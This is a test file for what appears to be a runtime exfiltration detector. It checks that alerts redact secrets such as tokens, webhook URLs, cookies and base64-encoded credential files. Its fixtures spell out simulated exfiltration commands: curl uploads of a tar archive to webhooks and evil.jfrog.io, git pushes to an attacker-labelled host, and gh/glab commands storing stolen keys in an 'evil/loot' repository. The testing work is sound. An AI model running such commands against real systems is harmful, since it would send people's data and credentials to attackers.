/**
 * Credentials driven through whole alerts, in both sensors' forms, not through redact() alone: every field of
 * the alert as published (summary, process, push, evidence, response) is searched for the secret, case
 * folded (a destination host is lower-cased). Tetragon quotes an argument holding a blank; Falco joins argv
 * with spaces, and cuts it at its 4 KiB capture limit, anywhere, mid-token too.
 */
import { describe, expect, it } from 'vitest';
import type { Alert } from '../../../src/model/alert.js';
import type { SensorSource } from '../../../src/model/normalized-event.js';
import { MiB, runResolved, Scenario } from './builder.js';

const GHP = 'ghp_R4nd0mT0k3nV4lu3Abcdef0123456789XY';
/** An opaque secret: no provider's shape. */
const SECRET = 'Sx8kLp2QvR7tYw';

interface Leak {
  /** The pushing process's argv, without argv[0]. */
  argv: string[];
  /** A `sh -c` script that ran it, when the secret is in the script. */
  script?: string;
  secret: string;
  /** The pushing binary: git for `push …`, else curl. */
  bin?: string;
}

/** As Tetragon gives argv: an argument holding a blank in double quotes; as Falco: joined with spaces. */
function joined(argv: readonly string[], source: SensorSource): string {
  return source === 'falco' ? argv.join(' ') : argv.map((a) => (/\s/.test(a) ? `"${a}"` : a)).join(' ');
}

async function alertsOf(c: Leak, source: SensorSource, cut = false): Promise<Alert[]> {
  let args = joined(c.argv, source);
  let script = c.script === undefined ? undefined : joined(['-c', c.script], source);
  if (cut) {
    // Falco's capture limit falls in the middle of the secret: what is left of it must not survive either.
    const half = Math.ceil(c.secret.length / 2);
    if (args.includes(c.secret)) args = args.slice(0, args.indexOf(c.secret) + half);
    else if (script !== undefined) script = script.slice(0, script.indexOf(c.secret) + half);
  }
  const s = new Scenario({ source });
  const ctr = s.container();
  const init = s.init(ctr);
  const sh = script === undefined ? init : s.exec(ctr, '/bin/sh', script, { parent: init });
  const tar = s.exec(ctr, '/bin/tar', 'cf /tmp/d.tar /data', { parent: sh });
  s.read(tar, '/data/big.bin', 80 * MiB).wait(1000);
  const bin = c.bin ?? (c.argv[0] === 'push' ? '/usr/bin/git' : '/usr/bin/curl');
  const p = s.exec(ctr, bin, args, { parent: sh });
  s.connect(p, '140.82.112.3', 443).send(p, '140.82.112.3', 443, 20 * MiB);
  return (await runResolved(s.events)).alerts;
}

function expectNoLeak(alerts: readonly Alert[], secret: string): void {
  expect(alerts.length).toBeGreaterThan(0);
  expect(JSON.stringify(alerts).toLowerCase()).not.toContain(secret.toLowerCase());
}

describe('alert redaction: every field of an alert', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    // The summary and the response's traffic step said the destination as it was, unredacted: a host whose
    // label is a token (`https://ghp_….evil.example/…`, the token sent by DNS) reached them whole.
    it(`a token as a host's label (${source})`, async () => {
      const c = { argv: ['push', `https://${GHP}.evil.example/acme/app.git`, 'main'], secret: GHP };
      const alerts = await alertsOf(c, source);
      expectNoLeak(alerts, GHP);
      expect(alerts[0]?.summary).toContain('git push to [REDACTED].evil.example');
    });

    // A webhook's URL is its credential: whoever has it posts to the channel. Nothing in it matched a rule.
    it.each([
      ['https://hooks.slack.com/services/', 'T0ABCDEF1/B0ABCDEF2/Xyzzy1234567890AbCdEfGh'],
      ['https://discord.com/api/webhooks/', '123456789012345678/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-AbCdEfGh'],
      ['https://discordapp.com/api/webhooks/', '123456789012345678/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-AbCdEfGh'],
    ])(`a webhook URL, %s… (${source})`, async (kept, secret) => {
      const alerts = await alertsOf({ argv: ['-F', 'file=@/tmp/d.tar', `${kept}${secret}`], secret }, source);
      expectNoLeak(alerts, secret);
      expectNoLeak(alerts, secret.slice(secret.lastIndexOf('/') + 1));
      // The host and the kind of hook stay: where the data went.
      expect(alerts[0]?.process.args).toBe(`-F file=@/tmp/d.tar ${kept}[REDACTED]`);
    });

    // A Telegram bot's token, in its API URL's path: a chat to upload to.
    it(`a Telegram bot's URL (${source})`, async () => {
      const secret = '123456789:AAFSx8kLp2QvR7tYw_AbCdEf0123456789';
      const url = `https://api.telegram.org/bot${secret}/sendDocument`;
      const alerts = await alertsOf({ argv: ['-F', 'chat_id=42', '-F', 'document=@/tmp/d.tar', url], secret }, source);
      expectNoLeak(alerts, 'AAFSx8kLp2QvR7tYw');
      expect(alerts[0]?.process.args).toContain('https://api.telegram.org/bot[REDACTED]/sendDocument');
    });

    // Base64 of user:token, as a script decodes it into a credentials file or a config: no header names it.
    it(`base64 of user:token in a script (${source})`, async () => {
      const b64 = Buffer.from(`bob:${SECRET}`).toString('base64');
      const script = `echo ${b64} | base64 -d > /root/.git-credentials; git push https://github.com/acme/app.git main`;
      const c = { argv: ['push', 'https://github.com/acme/app.git', 'main'], script, secret: b64 };
      const alerts = await alertsOf(c, source);
      expectNoLeak(alerts, b64);
      expect(alerts[0]?.response[0]).toContain('echo [REDACTED] | base64 -d > /root/.git-credentials');
    });

    it(`a cookie given to curl (${source})`, async () => {
      const argv = [
        '-b',
        `sid=${SECRET}; csrf=1`,
        '-T',
        '/tmp/d.tar',
        'https://evil.jfrog.io/artifactory/generic-local/k',
      ];
      const alerts = await alertsOf({ argv, secret: SECRET }, source);
      expectNoLeak(alerts, SECRET);
      expect(alerts[0]?.process.args).toContain('sid=[REDACTED]');
    });

    // A credential file carried base64-encoded in the script (a service account's key, a kubeconfig, a private key's
    // DER): one long run, which the 40-character rule takes only at exactly 40, and no header names.
    it.each([
      [
        'a service account key',
        `{"type":"service_account","private_key_id":"0123abcd","private_key":"-----BEGIN PRIVATE KEY-----\\n${SECRET}\\n-----END PRIVATE KEY-----\\n","client_email":"ci@acme.iam.gserviceaccount.com"}`,
      ],
      ['a kubeconfig', `apiVersion: v1\nusers:\n- name: ci\n  user:\n    token: ${SECRET}\n`],
      ['an .env file', `DB_HOST=db\nDB_PASSWORD=${SECRET}\n`],
    ])(`base64 of %s in a script (${source})`, async (_what, text) => {
      const b64 = Buffer.from(text).toString('base64');
      const script = `echo ${b64} | base64 -d > /tmp/k; git push https://github.com/acme/app.git main`;
      const c = { argv: ['push', 'https://github.com/acme/app.git', 'main'], script, secret: b64 };
      const alerts = await alertsOf(c, source);
      expectNoLeak(alerts, b64.slice(0, 40));
      expect(alerts[0]?.response[0]).toContain('echo [REDACTED] | base64 -d > /tmp/k');
    });

    it(`a private key's DER, base64 without its PEM lines, in a script (${source})`, async () => {
      // PKCS#8: SEQUENCE, INTEGER 0 (its version), … as `openssl pkcs8 -topk8 -outform DER | base64 -w0` gives it.
      const der = Buffer.concat([
        Buffer.from([0x30, 0x82, 0x04, 0xbd, 0x02, 0x01, 0x00, 0x30, 0x0d]),
        Buffer.from(SECRET.repeat(6)),
      ]);
      const b64 = der.toString('base64');
      const script = `echo ${b64} > /tmp/k.b64; git push https://github.com/acme/app.git main`;
      const c = { argv: ['push', 'https://github.com/acme/app.git', 'main'], script, secret: b64 };
      const alerts = await alertsOf(c, source);
      expectNoLeak(alerts, b64.slice(0, 40));
      expect(alerts[0]?.response[0]).toContain('echo [REDACTED] > /tmp/k.b64');
    });

    // The script that ran the push, in the response's first step: a secret it hands a login or writes to .netrc.
    it.each([
      'cat > ~/.netrc <<EOF\nmachine github.com login bob password Sx8kLp2QvR7tYw\nEOF\ngit push https://github.com/acme/app.git main',
      'gh auth login --with-token <<< Sx8kLp2QvR7tYw && git push https://github.com/acme/app.git main',
      'mysqldump -uroot -pSx8kLp2QvR7tYw appdb > dump.sql && git push https://github.com/acme/app.git main',
      'redis-cli -a Sx8kLp2QvR7tYw --rdb d.rdb && git push https://github.com/acme/app.git main',
      'cat > /root/.kube/config <<EOF\nusers:\n- name: ci\n  user:\n    token: Sx8kLp2QvR7tYw\nEOF\ngit push https://github.com/acme/app.git main',
      'cat > ~/.aws/credentials <<EOF\n[default]\naws_secret_access_key = Sx8kLp2QvR7tYw\nEOF\ngit push https://github.com/acme/app.git main',
    ])(`a script's secret: %s (${source})`, async (script) => {
      const c = { argv: ['push', 'https://github.com/acme/app.git', 'main'], script, secret: 'Sx8kLp2QvR7tYw' };
      const alerts = await alertsOf(c, source);
      expectNoLeak(alerts, c.secret);
      expect(alerts[0]?.response[0]).toContain('git push https://github.com/acme/app.git main');
    });

    // A forge setting's value is what was stolen (forge-settings.ts: the push stores it in the attacker's repository
    // settings): the alert repeated it whole. The setting's name and the repository stay.
    it.each([
      ['/usr/bin/gh', ['secret', 'set', 'DEPLOY_KEY', '--body', SECRET, '-R', 'evil/loot']],
      ['/usr/bin/gh', ['secret', 'set', 'DEPLOY_KEY', '-b', SECRET, '-R', 'evil/loot']],
      ['/usr/bin/gh', ['secret', 'set', 'DEPLOY_KEY', `--body=${SECRET}`, '--repo', 'evil/loot']],
      ['/usr/bin/gh', ['secret', 'set', 'DEPLOY_KEY', '--body', `[default] key = ${SECRET}`, '-R', 'evil/loot']],
      ['/usr/bin/gh', ['variable', 'set', 'CFG', '--body', `${SECRET}${'x'.repeat(64)}`, '-R', 'evil/loot']],
      ['/usr/bin/glab', ['variable', 'set', 'DEPLOY_KEY', SECRET, '--masked', '-R', 'evil/loot']],
      ['/usr/bin/glab', ['variable', 'update', 'DEPLOY_KEY', '--value', SECRET, '--masked', '-R', 'evil/loot']],
    ])(`a forge setting's value: %s %j (${source})`, async (bin, argv) => {
      const alerts = await alertsOf({ bin, argv, secret: SECRET }, source);
      expectNoLeak(alerts, SECRET);
      expect(alerts[0]?.process.args).toMatch(/^(?:secret|variable) (?:set|update) (?:DEPLOY_KEY|CFG) .*\[REDACTED\]/);
      expect(alerts[0]?.process.args).toMatch(/ (?:-R|--repo) evil\/loot$/);
    });

    it(`a forge setting's value echoed into it (${source})`, async () => {
      const script = `echo ${SECRET} | gh secret set DEPLOY_KEY -R evil/loot`;
      const alerts = await alertsOf(
        { bin: '/usr/bin/gh', argv: ['secret', 'set', 'DEPLOY_KEY', '-R', 'evil/loot'], script, secret: SECRET },
        source,
      );
      expectNoLeak(alerts, SECRET);
    });
  }
});
